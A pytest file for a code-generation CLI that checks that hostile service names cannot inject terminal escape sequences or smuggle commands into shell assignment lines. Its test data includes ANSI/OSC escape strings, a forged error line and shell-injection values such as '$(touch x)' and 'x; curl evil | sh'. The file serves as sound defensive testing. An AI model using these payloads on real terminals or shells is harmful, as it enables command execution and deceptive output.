"""What a repository calls its things reaches a terminal as text, and a shell as one word or not at all."""

from __future__ import annotations

import hashlib
import io
import json
import marshal
import shlex
import shutil
import sys
import warnings
from importlib.util import MAGIC_NUMBER
from pathlib import Path

import pytest
from support import SAMPLE

from codegen import cli, shell
from codegen.commands.completing import names
from codegen.commands.session import Session
from codegen.disk import bytecode
from codegen.source import layout
from codegen.source.manifest import Entry, Manifest
from codegen.source.progress import Bars, Lines
from codegen.upgrade import program

HOSTILE = [
    "Erp.BO.\x1b]0;owned\x07Svc",
    "Erp.BO.\x9b2JSvc",
    "Erp.BO.A\nerror: nothing at allSvc",
    "Erp.BO.A\r\x7f\u202eSvc",
]
WORDS = [
    "a;b",
    "$(touch x)",
    "`touch x`",
    "a b",
    "a'b",
    'a"b',
    "a|b",
    "~",
    "-x",
    "a\tb",
]


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository whose snapshot has these names, and whose package has such files."""
    monkeypatch.chdir(tmp_path)
    sample = SAMPLE / "metadata" / "services" / "Erp.BO.CustomerSvc.edmx"
    (tmp_path / "metadata" / "services").mkdir(parents=True)
    entries = {}
    for name in [*HOSTILE, *WORDS, "Erp.BO.PlainSvc"]:
        path = layout.path_for("service", layout.stem(name))
        entries[path] = Entry(path, "service", name, failed="404 \x1b[2J")
        shutil.copy(sample, tmp_path / "metadata" / path)
    manifest = Manifest("http://h/\x1b[31m", "C\x1b[31m", entries)
    (tmp_path / "metadata" / "manifest.json").write_bytes(manifest.to_bytes())
    (tmp_path / "kinetic.toml").write_text('[package]\nname = "acme"\n')
    return tmp_path


def old_package(project: Path) -> None:
    """A package that its own manifest calls generated, with names and lines that would command a terminal."""
    (project / "acme").mkdir()
    text = "A = '\x1b[2J'\n"
    digest = hashlib.sha256(text.encode()).hexdigest()
    paths = ["client.py", "\x1b[2J.py", "\x9b31m.py"]
    for path in paths:
        (project / "acme" / path).write_text(text, "utf-8")
    listed = json.dumps({"files": dict.fromkeys(paths, digest)})
    (project / "acme" / "manifest.json").write_text(listed)


COMMANDS = [
    ["services", "--snapshot"],
    ["inspect", HOSTILE[0]],
    ["inspect", HOSTILE[1], "--stage", "ir"],
    ["inspect", HOSTILE[2], "--stage", "files"],
    ["inspect", "nothing"],
    ["generate", "--dry-run"],
    ["generate", "--check"],
    ["generate", "--diff"],
    ["generate", "--diff", "--verbose"],
    ["diff", "metadata", "other"],
    ["diff", "metadata", "other", "--format", "markdown"],
    ["diff", "metadata", "other", "--format", "json"],
    ["diff", "metadata", "other", "--format", "html"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_no_name_of_a_repository_commands_the_terminal(
    project: Path, command: list[str], capfd: pytest.CaptureFixture[str]
) -> None:
    old_package(project)
    other = project / "other" / "services"
    other.mkdir(parents=True)
    for path in sorted((project / "metadata" / "services").iterdir())[::2]:
        text = path.read_text("utf-8").replace("Name", "Nom\x85e", 1)
        (other / path.name).write_text(text, "utf-8")
    cli.run(command)
    told = capfd.readouterr()
    for line in (told.out + told.err).split("\n"):
        assert line.isprintable(), ascii(line)
    assert told.out or told.err


@pytest.mark.parametrize("name", HOSTILE)
def test_progress_shows_names_as_text(name: str) -> None:
    lines, bars = io.StringIO(), io.StringIO()
    Lines(lines).stage(name)
    shown = Bars(bars, color=False)
    with shown.bar:
        shown.stage("x", 2)
        shown.step(name)
        shown.bar.refresh()
    assert lines.getvalue().removesuffix("\n").isprintable()
    assert name not in bars.getvalue()


def test_a_shell_completes_nothing_that_it_would_run(project: Path) -> None:
    found = names(Session(), metadata=None, incomplete="")
    assert found == ["Erp.BO.PlainSvc"]


@pytest.mark.parametrize("value", [*WORDS, "EPIC06", "x; curl evil | sh", "$HOME"])
def test_a_line_for_a_shell_holds_a_value_as_one_word(
    value: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("PSModulePath", raising=False)
    if not shell.is_powershell():
        assert shlex.split(shell.assignments({"A": value})) == ["export", f"A={value}"]
    monkeypatch.setenv("PSModulePath", "/opt/microsoft/powershell")
    for quote in ("'", "\u2018", "\u2019", "\u201a", "\u201b", ""):
        line = shell.assignments({"A": f"{value}{quote}"})
        inside = line.removeprefix("$env:A = '").removesuffix("'")
        for mark in "'\u2018\u2019\u201a\u201b":
            assert mark not in inside.replace(2 * mark, "")


PROGRAM = "'\\d\x1b[2J'; 1is 1; '\\q\x1b]0;x\x07' is 1\n"
"""A line of which Python warns, in every version in another place, and shows it."""


@pytest.mark.filterwarnings("default")
def test_no_warning_shows_a_line_of_a_program(
    project: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    (project / "program.py").write_text(PROGRAM, "utf-8")
    program.read([project / "program.py"])
    cache = project / "__pycache__" / f"program.{sys.implementation.cache_tag}.pyc"
    cache.parent.mkdir()
    head = MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
    cache.write_bytes(head + marshal.dumps(compile("1", "program.py", "exec")))
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        program.read([project / "program.py"])
        assert bytecode.doubtful(project, {"program.py"}) == [
            cache.relative_to(project).as_posix()
        ]
    assert not warned and not capfd.readouterr().err


def test_a_hint_is_one_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """It names what is near, and a name may hold a line end with a hint of its own behind it."""
    for command in (
        ["inspect", "Erp.BO.A\nerror: nothing at alSvc"],
        ["inspect", "PlainSvz"],
    ):
        assert cli.run(command) == 2
        lines = capsys.readouterr().err.splitlines()
        assert [line[:5] for line in lines if line] == ["error", "hint:"]
